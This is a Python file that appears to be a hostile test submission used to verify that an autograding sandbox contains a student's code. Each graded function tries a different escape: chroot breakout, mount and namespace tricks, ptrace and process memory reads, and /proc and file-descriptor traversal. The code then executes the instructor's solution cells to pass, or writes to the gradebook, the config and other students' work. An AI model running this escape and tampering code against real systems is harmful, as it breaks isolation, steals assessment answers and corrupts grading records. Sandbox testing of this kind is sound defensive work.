# escaper: tries every known way out of the grading sandbox, then looks for the instructor's
# solutions, the gradebook and the reference bank from wherever it got to, and uses what it
# finds. Each function reports what it tried; in the sandbox every attempt fails and nothing
# outside its own folder is there to find or change (tests/test_hostile.py also hashes the
# course before and after).
#   sigmoid:      chroot into a subfolder, chdir("..") many times, chroot(".")
#   sigmoid_grad: umount / mount / pivot_root / a new user and mount namespace
#   softmax:      /proc/1/root, every process's root and cwd, inherited file descriptors,
#                 ptrace and process_vm_readv of every other process
#   log_softmax:  writes to nbgrader_config.py, the gradebook, the course root and other students
import ctypes
import errno
import glob
import json
import os

import numpy as np

EXPECTED_REASONS = {"test_sigmoid": "escape failed, found nothing", "test_sigmoid_grad": "escape failed, found nothing",
                    "test_softmax": "escape failed, found nothing", "test_log_softmax": "escape failed, wrote nothing"}

_libc = ctypes.CDLL(None, use_errno=True)
_HERE = os.path.abspath(".")                               # <course>/autograded/escaper/activations
_COURSE = os.path.dirname(os.path.dirname(os.path.dirname(_HERE)))
_TARGETS = ("source/activations/activations.ipynb", "gradebook.db", "nbgrader_config.py", "grader/bank/*.npz",
            "submitted/ada/activations/activations.ipynb")


def _call(name, *args):
    """A libc call; returns 'ok' or the errno's name."""
    result = getattr(_libc, name)(*args)
    return "ok" if result == 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def _look():
    """Course files visible from here, from every folder above, and through every process."""
    roots = {"/", _COURSE}
    here = os.path.abspath(".")
    while here != os.path.dirname(here):
        roots.add(here)
        here = os.path.dirname(here)
    roots |= {p + suffix for p in glob.glob("/proc/[0-9]*") for suffix in ("/root", "/cwd", "/root" + _COURSE)}
    found = []
    for root in sorted(roots):
        for target in _TARGETS:
            found += glob.glob(os.path.join(root, target))
    return sorted(set(found))


def _use(found, name):
    for path in found:
        if path.endswith(".ipynb") and "source" in path:
            namespace = {"np": np}
            for cell in json.load(open(path))["cells"]:
                if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
                    exec("".join(cell["source"]), namespace)
            return namespace[name]
    raise RuntimeError(f"ESCAPED: found {found[:5]}")


def _report(name, tried):
    found = _look()
    if found:
        return _use(found, name)
    raise RuntimeError(f"escape failed, found nothing ({'; '.join(tried)})")


def sigmoid(x):
    os.makedirs("jail", exist_ok=True)
    tried = [f"chroot(jail): {_call('chroot', b'jail')}"]
    for _ in range(64):
        os.chdir("..")
    tried.append(f"chroot(.): {_call('chroot', b'.')}")
    os.chdir(_HERE)
    return _report("sigmoid", tried)(x)


def sigmoid_grad(x):
    MS_BIND, MS_REC, MNT_DETACH, CLONE_NEWUSER, CLONE_NEWNS = 4096, 16384, 2, 0x10000000, 0x20000
    tried = [f"umount(/tmp): {_call('umount2', b'/tmp', MNT_DETACH)}",
             f"umount(/): {_call('umount2', b'/', MNT_DETACH)}",
             f"mount(tmpfs): {_call('mount', b'none', b'/tmp', b'tmpfs', 0, None)}",
             f"mount(bind /): {_call('mount', b'/', b'/tmp', None, MS_BIND | MS_REC, None)}",
             f"pivot_root: {_call('syscall', 155, b'.', b'.')}",
             f"unshare(user, mount): {_call('unshare', CLONE_NEWUSER | CLONE_NEWNS)}"]
    return _report("sigmoid_grad", tried)(x)


def softmax(x, axis=-1):
    PTRACE_ATTACH = 16
    tried, mine = [], {str(os.getpid())}
    others = [p.split("/")[-1] for p in glob.glob("/proc/[0-9]*") if p.split("/")[-1] not in mine]
    for pid in others:
        tried.append(f"ptrace({pid}): {_call('ptrace', PTRACE_ATTACH, int(pid), None, None)}")
        local = (ctypes.c_char * 8)()
        iov = (ctypes.c_void_p * 2)(ctypes.addressof(local), 8)
        result = _libc.process_vm_readv(int(pid), iov, 1, iov, 1, 0)
        tried.append(f"process_vm_readv({pid}): {'ok' if result >= 0 else errno.errorcode[ctypes.get_errno()]}")
    for fd in os.listdir("/proc/self/fd"):
        try:
            up = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=int(fd))
            tried.append(f"fd {fd} leads to {sorted(os.listdir(up))[:5]}")
            os.close(up)
        except OSError as exc:
            tried.append(f"fd {fd}: {errno.errorcode.get(exc.errno)}")
    return _report("softmax", tried)(x, axis)


def log_softmax(x, axis=-1):
    wrote = []
    for path in [os.path.join(_COURSE, name) for name in ("nbgrader_config.py", "gradebook.db", "pwned.txt")] + \
            glob.glob(os.path.join(_COURSE, "autograded", "*", "activations", "*.ipynb")) + \
            [os.path.join("/proc/1/root", _COURSE.lstrip("/"), "pwned.txt"), "/pwned.txt",
             os.path.join(os.path.dirname(_HERE), "pwned.txt")]:
        if os.path.dirname(os.path.abspath(path)) == _HERE:
            continue   # its own notebook: its own folder is its to write
        try:
            with open(path, "a") as f:
                f.write("\nc.Exchange.root = '/tmp/pwned'  # written by a student\n")
            wrote.append(path)
        except OSError:
            pass
    if wrote:
        raise RuntimeError(f"ESCAPED: wrote {wrote}")
    raise RuntimeError("escape failed, wrote nothing")
